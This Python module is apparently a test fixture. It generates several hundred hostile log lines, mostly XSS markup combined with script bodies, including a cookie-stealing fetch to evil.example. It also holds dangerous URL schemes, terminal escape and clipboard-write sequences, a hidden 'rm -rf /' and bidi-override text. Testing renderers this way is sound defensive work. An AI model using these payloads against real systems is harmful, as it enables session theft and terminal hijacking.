"""Five hundred lines that a program could write to harm whoever reads its log."""

from itertools import product

_SCRIPTS = [
    "alert(1)",
    "confirm('hit')",
    "eval(atob('YWxlcnQoMSk='))",
    "document.body.innerHTML='hit'",
    "window.__hit=1",
    "document.title='hit'",
    "location='https://evil.example/'",
    "top.location.href='javascript:alert(1)'",
    "fetch('https://evil.example/?'+document.cookie)",
    "parent.postMessage('hit','*')",
    "navigator.clipboard.writeText('hit')",
]
_MARKUP = [
    "<script>{}</script>",
    "</script><script>{}</script>",
    "</div></pre><script>{}</script>",
    '<img src=x onerror="{}">',
    '<svg onload="{}"></svg>',
    "<svg><script>{}</script></svg>",
    '<details open ontoggle="{}">',
    '<input autofocus onfocus="{}">',
    '<a href="javascript:{}">click</a>',
    '<iframe src="javascript:{}"></iframe>',
    '<iframe srcdoc="<script>{}</script>"></iframe>',
    '<object data="javascript:{}"></object>',
    '<embed src="javascript:{}">',
    '<form action="javascript:{}"><button>go</button></form>',
    '<meta http-equiv=refresh content="0;url=javascript:{}">',
    '<body onload="{}">',
    '<video><source onerror="{}"></video>',
    '<math href="javascript:{}">x</math>',
    '<div hx-get=/ hx-trigger=load hx-on::load="{}">',
    "<template><script>{}</script></template>",
    '<noscript><p title="</noscript><img src=x onerror={}>">',
    "<!--><img src=x onerror={}>-->",
    "<![CDATA[<script>{}</script>]]>",
    "&lt;script&gt;{}&lt;/script&gt;",
    "{{{{constructor.constructor('{}')()}}}}",
    "data: {}\n\nevent: end\ndata: {{}}\n",
    '"]}}\n\nevent: lines\ndata: [{{"at":null,"text":"{}"}}]',
    "'\"`;{}//",
]
_SCHEMES = [
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "file:///etc/passwd",
    "vbscript:x",
    "ssh://-oProxyCommand=x/",
    "ms-msdt:/id",
    "https://evil.example/",
    "tel:999",
    "chrome://settings",
]
_TERMINAL = [
    "\x1b]8;;{}\x07link\x1b]8;;\x07",
    "\x1b]8;;{}\x1b\\link\x1b]8;;\x1b\\",
    "\x9d8;;{}\x9clink\x9d8;;\x9c",
    "\x1b]1337;OpenURL=:{}\x07",
    "\x1b]0;{}\x07",
    "\x1b]2;{}",
    "[link]({})",
    "<{}>",
]
_CONTROLS = [
    *(f"before{chr(code)}after" for code in [*range(0x20), *range(0x7F, 0xA0)] if code != 0x0A),
    *(
        f"before{chr(code)}after"
        for code in [*range(0x200B, 0x2010), *range(0x2028, 0x202F), *range(0x2060, 0x2070)]
    ),
    *(
        f"before{chr(code)}after"
        for code in [0x061C, 0xFEFF, 0xFFF9, 0xFFFA, 0xFFFB, 0xE0001, 0xE0041, 0xE007F]
    ),
    *(f"\x1b[{code}m" for code in [0, 1, 5, 7, 8, 31, "38;5;196", "38;2;1;2;3", "9" * 4000]),
    *(
        f"\x1b[{tail}"
        for tail in ["2J", "H", "?1049h", "6n", "c", ">c", "5i", "21t", "200~", "?25l", "1;1r", "3J"]
    ),
    *(f"\x1b{letter}" for letter in "cDEHMNOZ78=>#(B"),
    "\x1b]52;c;Y3VybCBldmls\x07",
    "\x1b]52;p;?\x07",
    "\x1b]10;?\x07",
    "\x1b]11;?\x1b\\",
    "\x1b]4;1;?\x07",
    '\x1bP$q"p\x1b\\',
    "\x1bP+q544e\x1b\\",
    "\x1b_Ga=d\x1b\\",
    "\x1b^x\x1b\\",
    "\x1bXy\x1b\\",
    "\x1b[?2004h",
    "ok\rrm -rf /",
    "\x08" * 50 + "sudo",
    "a" * 100_000,
    "\u0300" * 400,
    "\x1b" * 200,
    "\x00" * 200,
    "/* \u202e } \u2066 if (admin) \u2069 \u2066 */",
    "user\u200b@evil.example",
    "\u202dltr\u202c",
    "％3Cscript％3E",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003e",
    "\\x3cscript\\x3e",
    "+ADw-script+AD4-alert(1)",
]

PAYLOADS = [
    *(markup.format(script) for markup, script in product(_MARKUP, _SCRIPTS)),
    *(form.format(scheme) for form, scheme in product(_TERMINAL, _SCHEMES)),
    *_CONTROLS,
]
